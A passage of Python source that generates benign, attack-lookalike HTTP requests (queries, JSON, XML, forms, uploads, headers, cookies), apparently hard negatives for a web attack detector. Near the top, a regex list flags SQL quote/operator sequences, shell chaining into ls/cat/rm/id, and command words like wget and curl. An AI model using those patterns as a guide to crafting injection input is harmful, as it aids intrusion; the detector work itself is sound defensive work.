    (re.compile(r"'\s*(?:or|and)\b|--\s|;\s*(?:ls|cat|rm|id)\b|\|\s*\w"), "quote/operator sequence"),
    (re.compile(r"(?i)\b(?:wget|curl|chmod|cmd|eval|exec|system)\b"), "command word"),
]


def grey_of(*texts):
    for t in texts:
        if not isinstance(t, str):
            t = json.dumps(t, ensure_ascii=False)
        for rx, why in GREY_PATTERNS:
            if rx.search(t):
                return "grey: " + why
    return None


def note_for(base, *texts):
    g = grey_of(*texts)
    return (g + "; " + base) if g else base


def pick(lst):
    return R.choice(lst)


def api_headers(auth=True):
    h = base_headers(ua=pick(UA_BROWSER + UA_CLIENT))
    if auth and R.random() < 0.5:
        h.append(["Authorization", "Bearer " + jwt({"sub": str(R.randint(1000, 99999)), "iat": 1717236000 + R.randint(0, 10**6), "scope": "read write"})])
    if R.random() < 0.3:
        h.append(["X-Request-Id", UUIDS()])
    return h


def qs(pairs, encf=e):
    return "&".join("%s=%s" % (k if re.fullmatch(r"[A-Za-z0-9_.\-\[\]$]+", k) else e(k), encf(v)) for k, v in pairs)


# each benign generator returns dict(loc, method, path, query, headers, ct, body, note)
def G(loc, method, path, query="", headers=None, ct=None, body=None, note=""):
    return dict(loc=loc, method=method, path=path, query=query, headers=headers or base_headers(), ct=ct, body=body, note=note)


def bq_search():
    t = pick(SEARCHES + NAMES + PROSE[:12] + CITIES)
    enc = pick([ep, e, eb])
    pairs = [("q", t)]
    if R.random() < 0.5:
        pairs.append(("page", str(R.randint(1, 30))))
    if R.random() < 0.3:
        pairs.append(("lang", pick(["en", "de", "fr", "ja", "pt-BR", "zh-Hans"])))
    path = pick(["/search", "/api/v1/search", "/products/search", "/help/search", "/api/suggest"])
    return G("query", "GET", path, qs(pairs, enc), base_headers(api=path.startswith("/api")), note=note_for("search box text", t))


def bq_names():
    n = pick(NAMES)
    pairs = [("name", n)]
    if R.random() < 0.5:
        pairs.append(("city", pick(CITIES)))
    if R.random() < 0.3:
        pairs.append(("phone", pick(PHONES)))
    return G("query", "GET", pick(["/api/users", "/api/v2/customers", "/directory", "/api/contacts/lookup"]), qs(pairs, pick([e, ep])), api_headers(),
             note="name with apostrophe/non-latin script" if ("'" in n or not n.isascii()) else "person lookup")


def bq_misc():
    kind = R.randrange(8)
    if kind == 0:
        pairs = [("from", pick(DATES)), ("to", pick(DATES)), ("tz", pick(["Europe/Berlin", "America/New_York", "Asia/Tokyo", "UTC"]))]
        return G("query", "GET", "/api/reports/sales", qs(pairs), api_headers(), note="date range with slashes/colons")
    if kind == 1:
        pairs = [("min_price", str(R.randint(0, 50))), ("max_price", pick(["99.99", "1,299", "250"])), ("currency", pick(["EUR", "USD", "JPY"])), ("sort", pick(["price_asc", "-price", "relevance"]))]
        return G("query", "GET", "/api/v1/products", qs(pairs), api_headers(), note="price filter")
    if kind == 2:
        u = pick(URLS)
        return G("query", "GET", pick(["/share", "/api/unfurl", "/bookmarks/add"]), qs([("url", u), ("title", pick(PROSE))]), base_headers(), note="public URL in parameter")
    if kind == 3:
        m = pick(MATH)
        return G("query", "GET", "/api/calc", qs([("expr", m)]), api_headers(), note=note_for("math expression", m))
    if kind == 4:
        pairs = [("utm_source", pick(["newsletter", "google", "facebook", "partner_o'neill"])), ("utm_medium", pick(["email", "cpc", "social"])),
                 ("utm_campaign", pick(["spring_sale_2024", "black-friday", "rentrée 2024", "drop-04"])), ("utm_content", pick(["hero_button", "footer link", "select-union-banner"]))]
        return G("query", "GET", pick(["/", "/landing/spring", "/products/drop-earrings"]), qs(pairs, ep), base_headers(api=False), note="utm tracking params")
    if kind == 5:
        pairs = [("return_to", pick(["/account/orders?page=2", "/billing", "https://app.example.com/settings#security"])), ("lang", pick(["en", "fr"]))]
        return G("query", "GET", "/login", qs(pairs), base_headers(api=False), note="same-site return_to")
    if kind == 6:
        fn = pick(FILENAMES)
        return G("query", "GET", "/api/files/download", qs([("name", fn), ("disposition", "attachment")]), api_headers(), note=note_for("file name parameter", fn))
    ph = pick(PHONES)
    return G("query", "GET", "/api/contacts/lookup", qs([("phone", ph), ("country", pick(["US", "GB", "DE", "JP"]))], pick([e, ep])), api_headers(), note="phone number")


def bq_graphql_get():
    qsrc = pick([
        '{ user(id: "42") { name email avatar(size: 64) } }',
        'query Search($q: String!) { search(query: $q, first: 10) { edges { node { id title } } } }',
        '{ products(filter: {category: "drop-earrings", price_lt: 100}) { id name price } }',
        '{ order(number: "77-1029") { status items { sku qty } } }',
    ])
    pairs = [("query", qsrc)]
    if "$q" in qsrc:
        pairs.append(("variables", json.dumps({"q": pick(SEARCHES)})))
    return G("query", "GET", "/graphql", qs(pairs), api_headers(), note="GraphQL GET query")


def bq_odata():
    f = pick([
        "startswith(LastName,'O''Br') and Country eq 'IE'",
        "contains(Description,'select') or contains(Description,'union')",
        "Price le 100.00 and Category/Name eq 'Drop Earrings'",
        "OrderDate ge 2024-01-01T00:00:00Z and Status ne 'Cancelled'",
        "Name eq 'L''Oréal Paris'",
        "not endswith(Email,'@example.com')",
    ])
    pairs = [("$filter", f), ("$orderby", pick(["Name desc", "Price asc,Name", "OrderDate desc"])), ("$top", str(pick([10, 20, 50]))), ("$select", "Id,Name,Price")]
    if R.random() < 0.4:
        pairs.append(("$expand", "Category"))
    if R.random() < 0.4:
        pairs.append(("$skip", str(R.randint(1, 9) * 20)))
    nt = "grey: OData $filter with quoted literal and or/select words" if (" or " in f or "select" in f) else "OData query options"
    return G("query", "GET", pick(["/odata/Products", "/odata/v4/Customers", "/odata/Orders"]), qs(pairs, pick([e, eb])), api_headers(), note=nt)


def bqn_jsonapi():
    lit = R.random() < 0.5
    def k(s):
        return s if lit else s.replace("[", "%5B").replace("]", "%5D")
    pairs = [(k("filter[status]"), pick(["active", "shipped", "pending"])), (k("filter[created_at][gte]"), pick(["2024-01-01", "2023-12-31T23:00:00Z"])),
             (k("page[number]"), str(R.randint(1, 9))), (k("page[size]"), pick(["25", "50"])), ("sort", pick(["-created_at", "title,-updated_at"]))]
    if R.random() < 0.5:
        pairs.append((k("fields[articles]"), "title,body,author"))
    if R.random() < 0.5:
        pairs.append(("include", "author,comments.author"))
    if R.random() < 0.3:
        pairs.append((k("filter[author.name]"), pick(NAMES)))
    R.shuffle(pairs)
    q = "&".join("%s=%s" % (a, e(b, safe=",")) for a, b in pairs)
    return G("query_name", "GET", pick(["/api/articles", "/api/v1/orders", "/jsonapi/node/article"]), q, api_headers(), note="JSON:API bracket parameter names")


def bqn_misc():
    kind = R.randrange(5)
    if kind == 0:
        q = "&".join("%s=%s" % (e(n), e(v)) for n, v in [("tags[]", pick(TAGS)), ("tags[]", pick(TAGS)), ("ids[]", str(R.randint(1, 999)))])
        return G("query_name", "GET", "/api/tickets", q, api_headers(), note="array-style param names")
    if kind == 1:
        n = pick(["größe", "цвет", "色", "preço", "sort.by", "x-amz-date", "filter.price.lt", "opt_in", "résumé"])
        return G("query_name", "GET", "/api/v1/products", e(n) + "=" + e(pick(["M", "rot", "blue", "10", "true", "2024-06-01"])), api_headers(), note="non-ascii / dotted param name")
    if kind == 2:
        q = "user%5Baddress%5D%5Bcity%5D=" + e(pick(CITIES)) + "&user%5Baddress%5D%5Bzip%5D=" + pick(["10115", "75001", "SW1A%201AA", "100-0001"])
        return G("query_name", "GET", "/api/checkout/validate", q, api_headers(), note="nested bracket names (Rails/PHP style)")
    if kind == 3:
        q = pick(["flag", "debug", "preview", "embed", "amp"])
        return G("query_name", "GET", pick(["/blog/how-we-cut-costs", "/docs/intro"]), q, base_headers(api=False), note="valueless param")
    q = "where%5Bprice%5D%5Bgte%5D=10&where%5Bprice%5D%5Blte%5D=200&where%5Bcategory%5D=" + e(pick(["Drop Earrings", "Cat Toys", "Union Jack Mugs"]))
    return G("query_name", "GET", "/api/v1/products", q, api_headers(), note="grey: bracketed where[...] range filter (gte/lte, not $-operators)")


def bpath():
    kind = R.randrange(7)
    if kind == 0:
        n = pick(NAMES)
        slug = n.lower().replace(" ", "-")
        return G("path", "GET", "/authors/" + e(slug), "", base_headers(api=False), note="author slug with apostrophe/unicode")
    if kind == 1:
        fn = pick(FILENAMES)
        return G("path", "GET", "/files/" + rhex(8) + "/" + e(fn), "", base_headers(), note=note_for("file name in path", fn))
    if kind == 2:
        p = pick(["/wiki/C%2B%2B", "/tags/c%23", "/wiki/O%27Reilly_Media", "/wiki/Rock_%27n%27_roll", "/wiki/AC/DC", "/wiki/K%C3%B6ln",
                  "/wiki/%E6%9D%B1%E4%BA%AC", "/wiki/Union_(set_theory)", "/wiki/Select_(SQL)", "/wiki/Drop_(liquid)", "/wiki/Cat_(Unix)",
                  "/wiki/Ping_(networking_utility)", "/wiki/Exec_(system_call)", "/wiki/Null_(SQL)", "/wiki/%3F_(film)", "/wiki/Mr._%26_Mrs._Smith",
                  "/wiki/100%25_Pure_Love", "/wiki/Alert_(film)", "/wiki/Script_(Unicode)", "/wiki/Etc."])
        return G("path", "GET", p, "", base_headers(api=False), note=note_for("encyclopedia title path", p))
    if kind == 3:
        p = "/api/v2/orders/%d/items/%s" % (R.randint(1000, 99999), pick(["AB-1002", "SKU%2F77%2F1", "x_42", "drop-leaf-table-oak"]))
        return G("path", pick(["GET", "DELETE"]), p, "", api_headers(), note="REST resource path")
    if kind == 4:
        p = "/blog/%d/%02d/%s" % (R.randint(2015, 2024), R.randint(1, 12), pick(["why-we-dropped-mongodb", "select-the-right-union-type", "o%27brien-on-testing",
                                                                              "caf%C3%A9-culture", "%E4%BD%A0%E5%A5%BD-world", "ping-vs-traceroute", "exec-summary-q3", "cat-vs-less"]))
        return G("path", "GET", p, "", base_headers(api=False), note="blog slug")
    if kind == 5:
        p = "/static/%s/%s" % (pick(["js", "css", "img", "fonts"]), pick(["app.3f9a2c.js", "main.min.css", "logo%402x.png", "NotoSansJP-Regular.woff2", "vendor~charts.js", "chunk-%5Bhash%5D.js"]))
        return G("path", "GET", p, "", base_headers(api=False, accept="*/*"), note="static asset")
    p = "/api/geo/%s,%s" % (pick(["48.8584", "-33.8688", "35.6762"]), pick(["2.2945", "151.2093", "139.6503"]))
    return G("path", "GET", p, pick(["", "zoom=12"]), api_headers(), note="coordinates in path")


def bjson_profile():
    obj = OrderedDict([("displayName", pick(NAMES)), ("city", pick(CITIES)), ("phone", pick(PHONES)),
                       ("bio", pick(PROSE + MARKDOWN[:3])), ("website", pick(URLS)), ("birthday", pick(DATES[:6]))])
    if R.random() < 0.3:
        obj["languages"] = R.sample(["en", "de", "fr", "ja", "ar", "hi", "zh", "ru"], 3)
    esc = "*" if R.random() < 0.15 else ""
    body = jdump(obj, esc) if esc else json.dumps(obj, ensure_ascii=R.random() < 0.4)
    return G("json", pick(["PATCH", "PUT"]), "/api/v2/profile", "", api_headers(), "application/json", body,
             note=note_for("profile update" + (" fully \\u-escaped" if esc else ""), obj["bio"]))


def bjson_ticket():
    t = pick(TICKETS)
    obj = OrderedDict([("subject", t[:40].rstrip()), ("body", t + ("\n\n" + pick(MARKDOWN) if R.random() < 0.3 else "")),
                       ("priority", pick(["low", "normal", "high"])), ("tags", R.sample(TAGS, 2)), ("customer", OrderedDict([("name", pick(NAMES)), ("email", "user%d@example.com" % R.randint(1, 999))]))])
    return G("json", "POST", pick(["/api/tickets", "/api/v1/support/requests", "/helpdesk/api/cases"]), "", api_headers(), "application/json",
             json.dumps(obj, ensure_ascii=R.random() < 0.5), note=note_for("support ticket", obj["body"]))


def bjson_snippet():
    lang, code, grey = pick(SNIPPETS)
    obj = OrderedDict([("title", pick(["helper", "example for docs", "bug repro", "snippet " + str(R.randint(1, 99))])), ("language", lang), ("code", code), ("public", R.random() < 0.5)])
    return G("json", "POST", pick(["/api/snippets", "/api/v1/gists", "/api/notebooks/cells"]), "", api_headers(), "application/json", json.dumps(obj),
             note=(grey + "; " if grey else "") + "code snippet in JSON field")


def bjson_order():
    items = [OrderedDict([("sku", pick(["AB-1002", "DROP-EAR-14K", "CAT-TREE-XL", "UNION-MUG", "SEL-PILLOW"])), ("qty", R.randint(1, 4)), ("unit_price", pick([9.99, 24.5, 1299.0, 0.99]))]) for _ in range(R.randint(1, 3))]
    obj = OrderedDict([("items", items), ("currency", pick(["EUR", "USD", "GBP", "JPY"])), ("coupon", pick(["SPRING-20", "WELCOME10", None])),
                       ("shipping", OrderedDict([("name", pick(NAMES)), ("street", pick(["221B Baker Street", "Rue de l'Église 4", "Hauptstraße 5a", "1-2-3 Shibuya", "O'Connell St. 12"])),
                                                 ("city", pick(CITIES)), ("phone", pick(PHONES))])),
                       ("gift_message", pick(PROSE) if R.random() < 0.5 else None), ("requested_delivery", pick(DATES[:6]))])
    return G("json", "POST", pick(["/api/orders", "/api/v1/checkout"]), "", api_headers(), "application/json", json.dumps(obj, ensure_ascii=False), note="order with address/prices")


def bjson_graphql():
    ops = [
        ('mutation DeleteComment($id: ID!) { deleteComment(id: $id) { ok } }', {"id": "c_%d" % R.randint(1, 9999)}),
        ('query Users($filter: UserFilter) { users(filter: $filter, first: 20) { nodes { id name } } }', {"filter": {"nameContains": pick(NAMES), "role": "EDITOR"}}),
        ('mutation UpdateBio($bio: String!) { updateProfile(input: {bio: $bio}) { profile { bio } } }', {"bio": pick(PROSE + TICKETS)}),
        ('query { __typename viewer { login repositories(first: 5, orderBy: {field: UPDATED_AT, direction: DESC}) { nodes { name } } } }', {}),
        ('mutation Drop($id: ID!) { dropItemFromCart(itemId: $id) { cart { total } } }', {"id": "it_%d" % R.randint(1, 999)}),
        ('query Search($q: String!) { search(q: $q, type: ISSUE) { issueCount } }', {"q": pick(SEARCHES)}),
    ]
    q, v = pick(ops)
    obj = OrderedDict([("operationName", None), ("query", q), ("variables", v)])
    return G("json", "POST", "/graphql", "", api_headers(), "application/json", json.dumps(obj, ensure_ascii=False), note=note_for("GraphQL POST", v))


def bjson_special():
    kind = R.randrange(6)
    if kind == 0:
        obj = OrderedDict([("$schema", "https://json-schema.org/draft/2020-12/schema"), ("$id", "https://example.com/schemas/order.json"), ("type", "object"),
                           ("properties", OrderedDict([("total", {"type": "number", "minimum": 0}), ("customer", {"$ref": "#/$defs/customer"})])),
                           ("$defs", {"customer": {"type": "object", "required": ["name"]}})])
        return G("json", "PUT", "/api/schemas/order", "", api_headers(), "application/json", json.dumps(obj), note="grey: JSON Schema $-prefixed keys ($schema/$ref/$defs)")
    if kind == 1:
        obj = OrderedDict([("@context", "https://schema.org"), ("@type", "Product"), ("name", pick(["Drop Earrings 14k", "Union Jack Mug", "Select Comfort Pillow"])),
                           ("offers", {"@type": "Offer", "price": "24.50", "priceCurrency": "EUR"})])
        return G("json", "POST", "/api/v1/products/import", "", api_headers(), "application/ld+json", json.dumps(obj), note="grey: JSON-LD @type keys")
    if kind == 2:
        obj = {"query": {"bool": {"must": [{"match": {"title": pick(SEARCHES)}}], "filter": [{"range": {"price": {"gte": 10, "lte": 100}}}]}}, "size": 20, "sort": [{"price": "asc"}]}
        return G("json", "POST", "/api/search", "", api_headers(), "application/json", json.dumps(obj), note="search DSL with range gte/lte")
    if kind == 3:
        obj = {"events": [{"name": pick(["page_view", "add_to_cart", "select_item"]), "ts": 1717236000000 + R.randint(0, 10**7), "props": {"path": "/products/drop-earrings", "referrer": pick(REFERERS)}} for _ in range(2)]}
        return G("json", "POST", "/api/track", "", api_headers(False), "application/json", json.dumps(obj), note="analytics events with referrer URLs")
    if kind == 4:
        obj = OrderedDict([("expression", pick(MATH)), ("precision", 6)])
        return G("json", "POST", "/api/calc", "", api_headers(), "application/json", json.dumps(obj, ensure_ascii=False), note=note_for("math expression", obj["expression"]))
    obj = {"translations": {"en": "Select a file to upload", "de": "Wählen Sie eine Datei aus", "fr": "Sélectionnez un fichier", "ja": "ファイルを選択してください", "ar": "اختر ملفًا للتحميل", "ru": "Выберите файл"}, "key": "upload.select"}
    return G("json", "PUT", "/api/i18n/strings", "", api_headers(), "application/json", json.dumps(obj, ensure_ascii=R.random() < 0.5), note="i18n strings")


def bform():
    kind = R.randrange(5)
    if kind == 0:
        t = pick(TICKETS + PROSE)
        pairs = [("name", pick(NAMES)), ("email", "someone%d@example.org" % R.randint(1, 999)), ("phone", pick(PHONES)), ("message", t)]
        return G("form", "POST", pick(["/contact", "/support/new", "/feedback"]), "", base_headers(api=False), "application/x-www-form-urlencoded", qs(pairs, ep), note=note_for("contact form", t))
    if kind == 1:
        pw = pick(PASSWORDS)
        pairs = [("username", pick(["sean.obrien", "d'angelo", "maria_jose", "zhang.wei", "admin.helpdesk", "o'hara.mk"])), ("password", pw), ("remember", "on"), ("csrf_token", ralnum(32))]
        return G("form", "POST", "/login", "", base_headers(api=False), "application/x-www-form-urlencoded", qs(pairs, ep), note=note_for("login form", pw))
    if kind == 2:
        md = pick(MARKDOWN + PROSE)
        pairs = [("author", pick(NAMES)), ("comment", md), ("post_id", str(R.randint(1, 5000)))]
        return G("form", "POST", "/blog/comments", "", base_headers(api=False), "application/x-www-form-urlencoded", qs(pairs, ep), note=note_for("blog comment (markdown)", md))
    if kind == 3:
        pairs = [("full_name", pick(NAMES)), ("address1", pick(["Rue de l'Église 4", "221B Baker Street", "Calle 5 #10-20", "O'Connell St. 12 Apt. 3/B"])), ("city", pick(CITIES)),
                 ("zip", pick(["10115", "75001", "SW1A 1AA", "100-0001", "01310-100"])), ("card_exp", pick(["04/27", "12/2026"])), ("total", pick(PRICES))]
        return G("form", "POST", "/checkout/address", "", base_headers(api=False), "application/x-www-form-urlencoded", qs(pairs, ep), note="checkout address form")
    pairs = [("q", pick(SEARCHES)), ("filters", "price:10-50;brand:levi's;size:32/34"), ("sort", "relevance")]
    return G("form", "POST", "/search", "", base_headers(api=False), "application/x-www-form-urlencoded", qs(pairs, pick([ep, e])), note="POSTed search form with semicolon/colon filter syntax")


def bmultipart():
    kind = R.randrange(5)
    if kind == 0:
        rows = ["name,email,city,phone", "%s,%s,%s,%s" % (pick(NAMES), "a@example.com", pick(CITIES), pick(PHONES)), "\"%s\",b@example.com,\"%s\",\"%s\"" % (pick(NAMES), pick(CITIES), pick(PHONES))]
        ct, body = multipart([{"name": "file", "filename": pick(["contacts.csv", "employees_export.csv", "Kontakte März.csv"]), "ctype": "text/csv", "value": "\r\n".join(rows)},
                              {"name": "has_header", "value": "true"}])
        return G("multipart", "POST", "/api/import/contacts", "", api_headers(), ct, body, note="CSV upload")
    if kind == 1:
        t = pick(TICKETS + MARKDOWN)
        ct, body = multipart([{"name": "subject", "value": t[:30]}, {"name": "description", "value": t},
                              {"name": "attachment", "filename": pick(FILENAMES), "ctype": "application/pdf", "value": "%PDF-1.7\n%µ¶\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF"}])
        return G("multipart", "POST", "/support/new", "", base_headers(api=False), ct, body, note=note_for("ticket with attachment", t))
    if kind == 2:
        svg = '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" viewBox="0 0 64 64"><circle cx="32" cy="32" r="30" fill="#0af"/><text x="32" y="38" text-anchor="middle">%s</text></svg>' % pick(["SO", "AN", "张", "ÉL"])
        ct, body = multipart([{"name": "avatar", "filename": "avatar.svg", "ctype": "image/svg+xml", "value": svg}, {"name": "display_name", "value": pick(NAMES)}])
        return G("multipart", "POST", "/api/v2/profile/avatar", "", api_headers(), ct, body, note="grey: benign SVG avatar upload")
    if kind == 3:
        md = pick(MARKDOWN)
        ct, body = multipart([{"name": "file", "filename": pick(["README.md", "notes.md", "CHANGELOG.md", "script.md"]), "ctype": "text/markdown", "value": md}, {"name": "folder", "value": pick(["/docs", "/team/notes", "Q3 plans"])}])
        return G("multipart", "POST", "/api/files", "", api_headers(), ct, body, note=note_for("markdown file upload", md))
    ics = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:%s\r\nDTSTART:20240603T090000Z\r\nLOCATION:%s\r\nEND:VEVENT\r\nEND:VCALENDAR" % (pick(["Standup", "Exec review", "Union meeting", "Drop-in clinic"]), pick(CITIES))
    ct, body = multipart([{"name": "calendar", "filename": "invite.ics", "ctype": "text/calendar", "value": ics}, {"name": "notify", "value": "1"}])
    return G("multipart", "POST", "/api/calendar/import", "", api_headers(), ct, body, note="ics calendar upload")


def bxml():
    kind = R.randrange(7)
    if kind == 0:
        body = ('<?xml version="1.0" encoding="utf-8"?>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:m="http://www.example.org/stock">\n'
                '  <soap:Header/>\n  <soap:Body>\n    <m:GetQuote>\n      <m:Symbol>%s</m:Symbol>\n    </m:GetQuote>\n  </soap:Body>\n</soap:Envelope>') % pick(["IBM", "SAP", "7203.T", "BRK.B"])
        return G("xml", "POST", "/ws/StockQuote", "", api_headers(False), "text/xml; charset=utf-8", body, note="SOAP 1.1 quote request")
    if kind == 1:
        n = pick(NAMES)
        body = ('<?xml version="1.0" encoding="UTF-8"?>\n<env:Envelope xmlns:env="http://www.w3.org/2003/05/soap-envelope">\n  <env:Body>\n'
                '    <CreateCustomer xmlns="urn:crm:v2">\n      <Name>%s</Name>\n      <Company>%s</Company>\n      <Phone>%s</Phone>\n      <Note>%s</Note>\n'
                '    </CreateCustomer>\n  </env:Body>\n</env:Envelope>') % (xesc(n), xesc(pick(["Marks & Spencer", "O'Reilly & Associates", "AT&T", "Procter & Gamble", "Ben & Jerry's"])), pick(PHONES), xesc(pick(TICKETS)))
        return G("xml", "POST", "/ws/crm", "", api_headers(False), "application/soap+xml; charset=utf-8", body, note="SOAP 1.2 with &amp; entities")
    if kind == 2:
        lines = "".join('\n    <cac:InvoiceLine><cbc:ID>%d</cbc:ID><cbc:InvoicedQuantity unitCode="EA">%d</cbc:InvoicedQuantity><cbc:LineExtensionAmount currencyID="EUR">%.2f</cbc:LineExtensionAmount>'
                        '<cac:Item><cbc:Name>%s</cbc:Name></cac:Item></cac:InvoiceLine>' % (i + 1, R.randint(1, 9), R.uniform(1, 900), xesc(pick(["Drop-leaf table, oak", "Select comfort pillow", "Cat tree XL", "Script font license"]))) for i in range(R.randint(1, 3)))
        body = ('<?xml version="1.0" encoding="UTF-8"?>\n<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" '
                'xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">\n'
                '  <cbc:ID>INV-2024-%04d</cbc:ID>\n  <cbc:IssueDate>2024-0%d-1%d</cbc:IssueDate>\n  <cac:AccountingCustomerParty><cac:Party><cac:PartyName><cbc:Name>%s</cbc:Name></cac:PartyName></cac:Party></cac:AccountingCustomerParty>%s\n</Invoice>'
                ) % (R.randint(1, 9999), R.randint(1, 9), R.randint(0, 9), xesc(pick(NAMES)), lines)
        return G("xml", "POST", "/api/einvoice", "", api_headers(), "application/xml", body, note="UBL invoice")
    if kind == 3:
        body = ('<?xml version="1.0"?>\n<PurchaseOrder OrderDate="2024-05-20">\n  <ShipTo country="%s">\n    <name>%s</name>\n    <street>%s</street>\n  </ShipTo>\n'
                '  <comment><![CDATA[%s]]></comment>\n  <Items><Item partNum="872-AA"><productName>Lawnmower</productName><quantity>1</quantity><USPrice>148.95</USPrice></Item></Items>\n</PurchaseOrder>'
                ) % (pick(["US", "IE", "DE"]), xesc(pick(NAMES)), xesc(pick(["Rue de l'Église 4", "12 O'Connell St", "Hauptstraße 5a"])), pick(PROSE + TICKETS).replace("]]>", ""))
        return G("xml", "POST", "/api/orders/xml", "", api_headers(), "application/xml", body, note=note_for("purchase order with CDATA comment", body.split("<![CDATA[")[1].split("]]>")[0]))
    if kind == 4:
        items = "".join("\n    <item><title>%s</title><link>%s</link><pubDate>%s</pubDate></item>" % (xesc(pick(["Why we dropped MongoDB", "Selecting the right union type", "O'Brien on testing", "Ping vs traceroute"])), xesc(pick(URLS)), "Tue, 04 Jun 2024 10:00:00 GMT") for _ in range(2))
        body = '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0">\n  <channel>\n    <title>Eng blog</title>%s\n  </channel>\n</rss>' % items
        return G("xml", "POST", "/api/feeds/ingest", "", api_headers(), "application/xml", body, note="RSS feed push")
    if kind == 5:
        body = ('<?xml version="1.0" encoding="UTF-8"?>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">\n<soap:Body>\n'
                '<ExecuteReport xmlns="urn:bi"><ReportName>Exec Summary Q%d</ReportName><Format>PDF</Format><Filter>Region = &apos;EMEA&apos; &amp;&amp; Revenue &gt; 1000</Filter></ExecuteReport>\n'
                '</soap:Body>\n</soap:Envelope>') % R.randint(1, 4)
        return G("xml", "POST", "/ws/reporting", "", api_headers(False), "text/xml", body, note="grey: SOAP ExecuteReport with entity-escaped filter")
    pr, mt = pick(PROSE), pick(MATH)
    body = '<?xml version="1.0" encoding="UTF-8"?>\n<note lang="%s">\n  <to>%s</to>\n  <body>%s</body>\n  <math>%s</math>\n</note>' % (pick(["ja", "ar", "ru", "fr"]), xesc(pick(NAMES)), xesc(pr), xesc(mt))
    return G("xml", "PUT", "/api/notes/%d" % R.randint(1, 999), "", api_headers(), "application/xml", body, note=note_for("multilingual XML note", pr, mt))


def bheader():
    h = api_headers(auth=False)
    kind = R.randrange(8)
    if kind == 0:
        set_header(h, "Authorization", "Bearer " + jwt({"sub": "auth0|" + rhex(24), "name": pick([n for n in NAMES if n.isascii()]), "email": "x@example.com", "roles": ["user"], "exp": 1893456000}, pick(["HS256", "RS256"])))
        nt = "JWT bearer (name with apostrophe inside payload)"
    elif kind == 1:
        set_header(h, "X-Forwarded-For", "%d.%d.%d.%d, 10.0.%d.%d, 172.16.0.%d" % (R.randint(1, 223), R.randint(0, 255), R.randint(0, 255), R.randint(1, 254), R.randint(0, 255), R.randint(1, 254), R.randint(1, 254)))
        set_header(h, "X-Forwarded-Proto", "https")
        nt = "proxy chain with private hops"
    elif kind == 2:
        set_header(h, "traceparent", "00-%s-%s-01" % (rhex(32), rhex(16)))
        set_header(h, "tracestate", "rojo=00f067aa0ba902b7,congo=t61rcWkgMzE")
        nt = "W3C trace context"
    elif kind == 3:
        set_header(h, "If-None-Match", 'W/"%s"' % rhex(16))
        set_header(h, "If-Modified-Since", "Tue, 04 Jun 2024 10:00:00 GMT")
        nt = "conditional request"
    elif kind == 4:
        set_header(h, "Authorization", "Basic " + b64(pick(["sean.obrien:Tr0ub4dor&3", "api-user:correct horse battery staple", "d'angelo:P@ssw0rd!2024"])))
        nt = "basic auth"
    elif kind == 5:
        set_header(h, "X-Amz-Date", "20240604T100000Z")
        set_header(h, "X-Amz-Content-Sha256", rhex(64))
        set_header(h, "Authorization", "AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20240604/eu-west-1/s3/aws4_request, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=" + rhex(64))
        nt = "SigV4 signed request"
    elif kind == 6:
        set_header(h, "Prefer", "return=minimal; odata.maxpagesize=50")
        set_header(h, "X-Client-Version", pick(["5.12.0 (build 3391)", "2024.06.1-beta+sha.3f9a2c", "android/14 app/8.1.2"]))
        nt = "client hints / prefer"
    else:
        set_header(h, "Content-Disposition-Name", pick(["Q3_report_final (2).xlsx", "O'Brien_contract_signed.pdf", "my file & notes.txt"]))
        set_header(h, "X-Upload-Filename", e(pick(FILENAMES)))
        nt = "file name headers"
    return G("header", pick(["GET", "GET", "HEAD", "DELETE"]), pick(["/api/v1/me", "/api/orders", "/bucket/reports/2024/q2.csv", "/api/v2/profile"]), "", h, note=nt)


def bua():
    ua = pick(ALL_UA)
    h = base_headers(ua=ua, api=R.random() < 0.4)
    return G("user_agent", "GET", pick(["/", "/robots.txt", "/sitemap.xml", "/products/drop-earrings", "/blog/why-we-dropped-mongodb", "/api/health", "/feed.xml"]), pick(["", "", "ref=home"]), h,
             note=("bot user agent" if ua in UA_BOT else "client library UA" if ua in UA_CLIENT else "browser UA"))


def breferer():
    ref = pick(REFERERS)
    h = base_headers(api=False)
    set_header(h, "Referer", ref)
    return G("referer", "GET", pick(["/", "/products/drop-earrings", "/sale", "/blog/o-briens-guide-to-sourdough", "/login", "/api/v1/products"]), pick(["", "", "utm_source=google"]), h,
             note=note_for("referer with query string", ref))


def bcookie():
    parts = ["_ga=GA1.2.%d.%d" % (R.randint(10**8, 10**9), R.randint(1600000000, 1718000000)), "_gid=GA1.2.%d.%d" % (R.randint(10**8, 10**9), R.randint(1700000000, 1718000000))]
    kind = R.randrange(6)
    if kind == 0:
        parts.append("session=" + jwt({"uid": R.randint(1, 99999), "name": pick([n for n in NAMES if n.isascii()]), "iat": 1717236000}))
        nt = "JWT session cookie"
    elif kind == 1:
        parts.append("cart=" + b64(json.dumps({"items": [{"sku": "AB-1002", "q": 2}, {"sku": "CAT-TREE-XL", "q": 1}], "coupon": "SPRING-20"})))
        nt = "base64 JSON cart cookie"
    elif kind == 2:
        parts.append("consent=" + e(json.dumps({"necessary": True, "analytics": R.random() < 0.5, "ads": False, "ts": "2024-06-01T10:00:00Z"})))
        nt = "URL-encoded JSON consent cookie"
    elif kind == 3:
        parts += ["PHPSESSID=" + rhex(26), "XSRF-TOKEN=" + e(b64(bytes(R.getrandbits(8) for _ in range(24)))), "locale=" + pick(["fr-CA", "pt_BR", "zh-Hant-TW"])]
        nt = "PHP session + CSRF cookie"
    elif kind == 4:
        parts += ["_fbp=fb.1.%d.%d" % (1717236000000 + R.randint(0, 10**6), R.randint(10**8, 10**9)), "AWSALB=" + b64(bytes(R.getrandbits(8) for _ in range(48))), "__cf_bm=" + ralnum(43) + "-" + str(1717236000) + "-0-" + b64(bytes(R.getrandbits(8) for _ in range(30)))]
        nt = "tracking / LB cookies with base64"
    else:
